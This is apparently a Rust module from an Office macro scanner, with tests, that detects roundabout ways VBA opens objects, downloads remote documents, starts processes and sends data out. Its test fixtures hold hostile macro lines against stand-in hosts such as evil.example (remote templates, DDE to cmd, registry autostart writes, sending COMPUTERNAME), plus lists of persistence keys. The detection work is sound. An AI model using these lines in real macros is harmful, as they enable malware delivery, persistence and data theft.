//! What a macro reaches for where no process is started by name: objects that lie in the document, locked documents
//! whose password it knows, documents and style sheets on other machines, keys by which Windows starts programs, the
//! keyboard, a conversation with another program (DDE), and what it sends away.

use super::fold::Folded;
use super::lexer::{Line, Token};
use super::{Collected, names_program, plain, said_on, words};
use crate::artifact::Sign;

/// What is opened, started or sent in a roundabout way.
pub(super) fn opening(lines: &[Line], texts: &[Folded], signs: &mut Collected) {
    let module = Module::of(lines, texts);
    for folded in texts.iter().filter(|folded| is_strange_share(&folded.text)) {
        signs.add(Sign::SendsOut, &folded.text, folded.line);
    }
    let shows = |line: &&Line| WAYS.iter().any(|(word, _, _)| line_has(line, &[*word]));
    for line in lines.iter().filter(shows) {
        let said = said_on(line.number, texts);
        for (at, token) in line.tokens.iter().enumerate() {
            let Token::Word(word) = token else { continue };
            for (_, sign, is_so) in WAYS.iter().filter(|(known, _, _)| known == word) {
                let after = line.tokens.get(at + 1..).unwrap_or_default();
                if is_so(&Place { line, after, said: &said, module: &module }) {
                    signs.add_line(*sign, line);
                }
            }
        }
    }
}

/// A word and what is known of where it stands.
struct Place<'a> {
    line: &'a Line,
    after: &'a [Token],
    /// The texts of the line, in lower case.
    said: &'a str,
    module: &'a Module,
}

/// What the module does elsewhere.
struct Module {
    has_script_control: bool,
    transforms: bool,
    copies_own_file: bool,
    reads_files: bool,
    reads_mail: bool,
}

impl Module {
    fn of(lines: &[Line], texts: &[Folded]) -> Self {
        let has = |words: &[&str]| lines.iter().any(|line| line_has(line, words));
        let copies = |line: &Line| {
            line_has(line, &["filecopy", "copyfile"])
                && line_has(line, &["activedocument", "thisdocument", "activeworkbook", "thisworkbook"])
        };
        Self {
            has_script_control: texts.iter().any(|folded| plain(&folded.text).contains("scriptcontrol")),
            transforms: has(&["transformnode", "transformnodetoobject"]),
            copies_own_file: lines.iter().any(copies),
            reads_files: has(&["loadfromfile"]),
            reads_mail: has(&["getdefaultfolder"]),
        }
    }
}

/// A word, what it shows, and when.
type Way = (&'static str, Sign, fn(&Place) -> bool);

const WAYS: &[Way] = &[
    ("doverb", Sign::OpensObject, |_| true),
    ("oleformat", Sign::OpensObject, |place| opens_member(place.after)),
    ("passworddocument", Sign::OpensObject, |place| gives_text(place.after)),
    // The document is a ZIP: a copy of it is unpacked.
    ("copyhere", Sign::OpensObject, |place| place.module.copies_own_file),
    ("followhyperlink", Sign::Download, |place| leads_to_program(place.said)),
    ("open", Sign::Download, |place| is_far_document(place.said) && opens_documents(place.line)),
    ("insertfile", Sign::Download, |place| is_far_document(place.said)),
    ("attachedtemplate", Sign::Download, |place| is_far_document(place.said)),
    // A style sheet may hold a script (MSXML: msxsl:script).
    ("load", Sign::ProcessStart, |place| place.module.transforms && place.said.contains("://")),
    ("loadxml", Sign::ProcessStart, |place| place.module.transforms && is_out_of_sight(place.after)),
    // Monikers: the class of scripts, a page that is loaded with its scripts.
    ("getobject", Sign::ProcessStart, |place| place.said.contains("script:")),
    ("getobject", Sign::Download, |place| place.said.contains("http://") || place.said.contains("https://")),
    ("installproduct", Sign::Download, |place| is_far(place.said)),
    ("ddeinitiate", Sign::ProcessStart, |place| talks_to_shell(place.said)),
    ("sendkeys", Sign::ProcessStart, |place| names_interpreter(place.said)),
    ("regwrite", Sign::ProcessStart, |place| is_starting_key(place.said)),
    ("registerxll", Sign::ProcessStart, |place| is_dropping_place(place.said)),
    ("eval", Sign::ProcessStart, |place| place.module.has_script_control && is_computed(place.after)),
    // A page in memory runs what it is given; a script written here can be read here.
    ("execscript", Sign::ProcessStart, |place| is_out_of_sight(place.after)),
    ("executeexcel4macro", Sign::ProcessStart, |place| is_cell(place.after)),
    ("send", Sign::SendsOut, |place| sends_away(place)),
];

fn line_has(line: &Line, words: &[&str]) -> bool {
    line.tokens.iter().any(|token| matches!(token, Token::Word(word) if words.contains(&word.as_str())))
}

/// `OLEFormat.Open`, `OLEFormat.Object.Verb`: a person sees nothing being opened.
fn opens_member(after: &[Token]) -> bool {
    let member = after.iter().filter_map(|token| match token {
        Token::Word(word) => Some(word.as_str()),
        _ => None,
    });
    member.take(2).any(|word| ["activate", "activateas", "edit", "open", "verb"].contains(&word))
}

/// `PasswordDocument:="…"` with something written: recorded macros have an empty one.
fn gives_text(after: &[Token]) -> bool {
    matches!(after, [Token::Mark(':'), Token::Mark('='), Token::Text(text), ..] if !text.is_empty())
}

/// Whether a web address ends in a program, or in an archive or disc image that may hold one.
fn leads_to_program(said: &str) -> bool {
    const PACKED: &[&str] =
        &[".zip", ".7z", ".rar", ".iso", ".img", ".vhd", ".cab", ".msix", ".appinstaller"];
    let path = said.split(['?', '#']).next().unwrap_or_default().trim_end();
    is_far(said)
        && (names_program(path.rsplit("://").next().unwrap_or(path))
            || PACKED.iter().any(|ending| path.ends_with(ending)))
}

fn is_far(said: &str) -> bool {
    said.contains("http://") || said.contains("https://") || said.contains("\\\\")
}

/// `Documents.Open`, `Workbooks.Open`, `Presentations.Open`.
fn opens_documents(line: &Line) -> bool {
    line_has(line, &["documents", "workbooks", "presentations"])
}

/// A document that may carry macros, on a web server or on a machine named by its number. What offices keep on
/// SharePoint is theirs.
fn is_far_document(said: &str) -> bool {
    const CARRIERS: &[&str] = &[
        ".doc", ".docm", ".dot", ".dotm", ".xls", ".xlsm", ".xlsb", ".xla", ".xlam", ".xlt", ".xltm", ".ppt",
        ".pptm", ".ppam", ".rtf", ".hta", ".mht",
    ];
    let path = said.split(['?', '#']).next().unwrap_or_default().trim_end();
    let web = said.contains("http://") || said.contains("https://") && !said.contains(".sharepoint.com/");
    let share = said.split_once("\\\\").is_some_and(|(_, host)| is_number(host));
    (web || share) && CARRIERS.iter().any(|ending| path.ends_with(ending))
}

/// Whether a host is written as four numbers.
fn is_number(host: &str) -> bool {
    let host: String = host.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
    host.parse::<std::net::Ipv4Addr>().is_ok()
}

/// A share on a machine of the internet that is named by its number: Windows sends it who is logged on.
fn is_strange_share(text: &str) -> bool {
    let Some(host) = text.strip_prefix("\\\\") else { return false };
    let number: String = host.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
    let ends = host.get(number.len()..).is_some_and(|rest| rest.starts_with(['\\', '@']));
    let strange = |host: std::net::Ipv4Addr| {
        !(host.is_private() || host.is_loopback() || host.is_link_local() || host.is_broadcast())
            && host.octets().first().is_some_and(|first| *first != 0)
    };
    ends && number.parse().is_ok_and(strange)
}

/// Whether a conversation is begun with what starts programs: an interpreter, or the shell itself.
fn talks_to_shell(said: &str) -> bool {
    const SHELLS: &[&str] = &["cmd", "systray", "progman", "powershell", "mshta", "explorer"];
    let word = |shell: &str| said.split(|c: char| !c.is_alphanumeric()).any(|word| word == shell);
    SHELLS.iter().any(|shell| word(shell)) || names_interpreter(said)
}

fn names_interpreter(said: &str) -> bool {
    words::texts().any(|entry| entry.sign == Sign::Interpreter && said.contains(entry.word))
}

/// Keys of the registry by which Windows starts a program or loads a library.
fn is_starting_key(said: &str) -> bool {
    const KEYS: &[&str] = &[
        "\\shell\\open\\command",
        "\\inprocserver32",
        "\\localserver32",
        "image file execution options",
        "\\winlogon",
        "\\windows\\load",
        "\\windows\\run",
        "userinitmprlogonscript",
        "\\silentprocessexit",
        "\\command processor\\autorun",
        "\\office test\\special\\perf",
        "\\appinit_dlls",
        "\\explorer\\shell folders\\startup",
    ];
    KEYS.iter().any(|key| said.contains(key))
}

/// Folders into which a dropper may write.
fn is_dropping_place(said: &str) -> bool {
    ["temp", "tmp", "appdata", "\\public\\", "programdata"].iter().any(|place| said.contains(place))
}

/// Whether an argument is more than a literal.
fn is_computed(after: &[Token]) -> bool {
    after.iter().any(|token| matches!(token, Token::Word(_)))
}

/// Whether an argument is text of the document that a person does not see in it.
fn is_out_of_sight(after: &[Token]) -> bool {
    after
        .iter()
        .any(|token| matches!(token, Token::Word(word) if words::HIDING_PLACES.contains(&word.as_str())))
}

/// Whether the argument is what a cell says. Values of closed workbooks are read with a reference put together.
fn is_cell(after: &[Token]) -> bool {
    const CELLS: &[&str] = &["range", "cells", "sheets", "worksheets", "activecell", "activesheet"];
    let first = after.iter().find(|token| !token.is_mark('('));
    let joins = after.iter().any(|token| token.is_mark('&'));
    matches!(first, Some(Token::Word(word)) if CELLS.contains(&word.as_str())) && !joins
}

/// What names the machine or its user goes to a server, or a file that was read does.
fn sends_away(place: &Place) -> bool {
    const NAMES: &[&str] = &["computername", "username", "userdomain", "userprofile", "userdnsdomain"];
    let told = NAMES.iter().any(|name| place.said.contains(name))
        || line_has(place.line, &["userdomain", "computername"]);
    let reads = place.module.reads_files && line_has(place.line, &["read"]);
    told || reads
        || place.module.reads_mail && line_has(place.line, &["body", "htmlbody", "senderemailaddress"])
}

#[cfg(test)]
mod tests {
    use super::super::{fold, lexer};
    use super::*;
    use crate::artifact::Fact;

    fn signs(source: &str) -> Vec<Sign> {
        let lines = lexer::lines(source);
        let texts = fold::texts(&lines);
        let mut signs = Collected { source: source.lines().collect(), ..Collected::default() };
        opening(&lines, &texts, &mut signs);
        let sign = |fact: &Fact| if let Fact::Sign { sign, .. } = fact { Some(*sign) } else { None };
        signs.facts.iter().filter_map(sign).collect()
    }

    #[test]
    fn roundabout_ways_are_told() {
        for (source, want) in [
            ("ActiveDocument.InlineShapes(1).OLEFormat.DoVerb 0", Sign::OpensObject),
            ("s.OLEFormat.Open", Sign::OpensObject),
            ("Documents.Open FileName:=f, PasswordDocument:=\"x1\"", Sign::OpensObject),
            ("FileCopy ActiveDocument.FullName, p\ns.Namespace(q).CopyHere i", Sign::OpensObject),
            ("ThisDocument.FollowHyperlink \"http://files.evil.example/a.exe\"", Sign::Download),
            ("FollowHyperlink \"https://files.evil.example/a.zip?id=3\", , True", Sign::Download),
            ("Workbooks.Open \"https://c.evil.example/b.xlsm\"", Sign::Download),
            ("Documents.Open \"\\\\198.51.100.7\\s\\n.doc\"", Sign::Download),
            ("Selection.InsertFile \"http://t.evil.example/n.docm\"", Sign::Download),
            ("ActiveDocument.AttachedTemplate = \"http://t.evil.example/n.dotm\"", Sign::Download),
            ("x.Load \"http://x.evil.example/a.xsl\"\nx.transformNode x", Sign::ProcessStart),
            ("c = DDEInitiate(\"Shell\", \"SysTray\")", Sign::ProcessStart),
            ("x.DDEInitiate \"cmd\", \"/c echo tenpu-test\"", Sign::ProcessStart),
            ("x.LoadXML ThisDocument.CustomXMLParts(3).XML\nx.transformNode x", Sign::ProcessStart),
            ("GetObject \"scr\" & \"ipt:\" & c", Sign::ProcessStart),
            ("GetObject \"https://x.evil.example/a.html\"", Sign::Download),
            ("i.InstallProduct \"http://x.evil.example/a.msi\"", Sign::Download),
            ("s.AddPicture \"\\\\198.51.100.9\\s\\x.png\"", Sign::SendsOut),
            ("f = o.GetDefaultFolder(6)\nh.send m.Body", Sign::SendsOut),
            ("SendKeys \"cmd /c echo tenpu-test{ENTER}\"", Sign::ProcessStart),
            ("w.RegWrite \"HKCU\\Software\\Classes\\a\\shell\\open\\command\\\", p", Sign::ProcessStart),
            ("Application.RegisterXLL Environ(\"TEMP\") & \"\\b.xll\"", Sign::ProcessStart),
            ("Set c = CreateObject(\"ScriptControl\")\nc.Eval t", Sign::ProcessStart),
            ("ExecuteExcel4Macro Range(\"A1\").Value", Sign::ProcessStart),
            (
                "h.parentWindow.execScript ActiveDocument.CustomXMLParts(4).XML, \"JScript\"",
                Sign::ProcessStart,
            ),
            ("h.send Environ(\"COMPUTERNAME\") & x", Sign::SendsOut),
            ("s.LoadFromFile p\nh.Send s.Read", Sign::SendsOut),
        ] {
            assert!(signs(source).contains(&want), "{source}");
        }
    }

    #[test]
    fn what_offices_do_is_not() {
        for source in [
            "ActiveSheet.OLEObjects(\"Box\").Object.Value = True",
            "Documents.Open FileName:=f, PasswordDocument:=\"\"",
            "ThisWorkbook.FollowHyperlink \"https://www.city.example/kitei.pdf\"",
            "ThisWorkbook.FollowHyperlink ThisWorkbook.Path & \"\\manual.exe\"",
            "c = DDEInitiate(\"Excel\", \"Book1.xls\")",
            "Workbooks.Open \"https://city.sharepoint.com/sites/a/kyuyo.xlsm\"",
            "Workbooks.Open \"\\\\server1\\share\\kyuyo.xlsm\"",
            "Workbooks.Open \"https://stat.example/rates.csv\"",
            "p = w.RegRead(\"HKCR\\htmlfile\\shell\\open\\command\\\")",
            "s.Namespace(q).CopyHere f",
            "SendKeys \"{ESC}\"",
            "x.Load ThisWorkbook.Path & \"\\a.xsl\"\nx.transformNode x",
            "Application.RegisterXLL ThisWorkbook.Path & \"\\calc.xll\"",
            "v = ExecuteExcel4Macro(\"GET.DOCUMENT(50)\")",
            "v = ExecuteExcel4Macro(\"'\" & p & \"[\" & f & \"]Sheet1'!\" & Range(r).Address(, , xlR1C1))",
            "h.parentWindow.execScript code, \"JScript\"",
            "h.send",
            "h.send body",
            "h.Send Request.Body",
            "p = \"\\\\192.168.1.20\\share\\a.png\"",
            "p = \"\\\\198.51.100.9\"",
            "Set x = GetObject(, \"Excel.Application\")",
            "i.InstallProduct p",
            "m.Send",
        ] {
            assert_eq!(signs(source), [], "{source}");
        }
    }
}
